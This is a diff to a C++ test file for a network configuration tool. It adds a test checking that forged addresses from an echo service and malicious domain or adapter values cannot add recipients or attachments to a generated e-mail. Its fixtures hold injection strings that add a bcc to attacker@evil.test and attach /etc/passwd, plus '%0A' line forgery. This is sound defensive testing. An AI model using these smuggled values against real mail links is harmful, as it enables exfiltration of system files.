@@ -19,6 +19,7 @@
 #include "forms/MainForm.h"
 #include "internet/InternetWiring.h"
 #include "internet/server/testing/WebServerProcess.h"
+#include "reports/ReportCommands.h"
 #include "platform/linux/CurlDownload.h"
 #include "platform/linux/LinuxFiles.h"
 
@@ -125,21 +126,67 @@ TEST_F(HostileDownload, NoWindowShowsMoreThan2000CharactersOfAPage) {
     stub.page("/lanomatpstdupdater1.htm", "1.04.0~" + page.substr(7));
     stub.page("/lanomatpstdwhatsnew.htm", page);
     stub.page("/ip.shtml", page);
+    stub.page("/echo/", "Current IP Address: " + page.substr(30) + "<");
     fake.env.vars["CFGSCOPE_PRODUCT_SERVER"] = stub.url();
+    fake.env.vars["CFGSCOPE_ECHO_SERVICE"] = stub.url("/echo/");
     internet::wireInternet(form, p);
 
-    form.Command6.click();  // then the quiet update check: a newer version
-    EXPECT_EQ(form.Text1.text(), std::string(2000, 'x') + "from Vorlan");
-    EXPECT_LE(form.Label14.caption().size(), 2100u);
+    form.Command6.click();  // no address in either page
+    EXPECT_EQ(form.Text1.text(), "Unable to Connect/err2");
     for (const auto& entry : form.errorlog.items()) EXPECT_LE(entry.size(), 2100u);
+    form.updates.click();  // a newer version
     ASSERT_EQ(fake.dialogs.questions.size(), 1u);
     EXPECT_LE(fake.dialogs.questions[0].text.size(), 4400u) << "version and what's new, 2,000 each";
 
     addrpeek::Monitor m{monitorForm, p, stub.url(), {}};
-    EXPECT_EQ(addrpeek::fetchPublicAddress(m), std::string(2000, 'x'));
+    EXPECT_EQ(addrpeek::fetchPublicAddress(m), "Cannot Acquire");
 
     stub.page("/ip.shtml", page + "x");  // one byte over: not fetched at all
     EXPECT_EQ(addrpeek::fetchPublicAddress(m), "Cannot Acquire");
+    EXPECT_TRUE(nothingLeft());
+}
+
+// The echo service is plain HTTP: whatever stands between the marker and
+// "<" was the public address, and went on into the e-mail as it stood,
+// adding recipients and attachments. So did a DHCP-supplied suffix holding
+// "&", and a "%0A" forged adapter lines. Only an address is taken, and the
+// mail body is encoded: the one "&" of the address handed to the mail
+// program is the one before "body=".
+TEST_F(HostileDownload, ForgedAddressesAndValuesNeverExtendTheMail) {
+    const std::string forged = "6.6.6.6&bcc=attacker@evil.test&attach=/etc/passwd";
+    http_stubs::StubServer stub;
+    stub.page("/lanomatstd.shtml", forged + "~");
+    stub.page("/echo/", "<html><body>Current IP Address: " + forged + "</body></html>");
+    stub.page("/ip.shtml", forged);
+    stub.page("/v6/lanomatstd.shtml", "2001:db8::7~");
+    stub.page("/v6/ip.shtml", "2001:db8::7");
+    fake.env.vars["CFGSCOPE_PRODUCT_SERVER"] = stub.url();
+    fake.env.vars["CFGSCOPE_ECHO_SERVICE"] = stub.url("/echo/");
+    internet::wireInternet(form, p);
+    reports::wireReports(form, p);
+    form.domain.setText("corp&cc=x@evil.test");
+    form.adapters.add("1) Local Area Connection");
+    form.adapterTable[1][0] = "1) Local Area Connection";
+    form.adapterTable[1][1] = "Name:             lan%0A2) Forged%0AIP Address:       169.254.6.6#?";
+
+    form.Command6.click();
+    EXPECT_EQ(form.Text1.text(), "Unable to Connect/err2");
+    form.mnucopyemail.click();
+    ASSERT_EQ(fake.shell.opened.size(), 1u);
+    const std::string& mail = fake.shell.opened[0];
+    EXPECT_EQ(mail.find('&', mail.find("body=")), std::string::npos) << mail;
+    EXPECT_EQ(mail.find_first_of("#?\r\n", mail.find("body=")), std::string::npos) << mail;
+    EXPECT_EQ(mail.find("%0A2) Forged"), std::string::npos) << mail;
+
+    addrpeek::Monitor m{monitorForm, p, stub.url(), {}};
+    EXPECT_EQ(addrpeek::fetchPublicAddress(m), "Cannot Acquire");
+    // Addresses themselves still count, IPv6 too.
+    fake.env.vars["CFGSCOPE_PRODUCT_SERVER"] = stub.url("/v6");
+    internet::wireInternet(form, p);
+    form.Command6.click();
+    EXPECT_EQ(form.Text1.text(), "2001:db8::7");
+    addrpeek::Monitor v6{monitorForm, p, stub.url("/v6"), {}};
+    EXPECT_EQ(addrpeek::fetchPublicAddress(v6), "2001:db8::7");
     EXPECT_TRUE(nothingLeft());
 }
 
